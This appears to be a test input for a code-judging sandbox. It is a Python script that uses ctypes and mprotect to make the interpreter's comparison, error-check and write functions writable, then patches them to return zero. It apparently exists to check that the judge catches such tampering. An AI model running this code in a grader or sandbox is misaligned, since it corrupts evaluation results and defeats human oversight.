# attack: make the interpreter's own code writable and patch it
# expect: runtime_error, wrong_answer
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for function in (ctypes.pythonapi.PyObject_RichCompare, ctypes.pythonapi.PyErr_Occurred, libc.write):
    address = ctypes.cast(function, ctypes.c_void_p).value
    page = address & ~0xFFF
    if libc.mprotect(ctypes.c_void_p(page), 8192, 7) == 0:
        ctypes.memmove(address, b"\x31\xc0\xc3", 3)
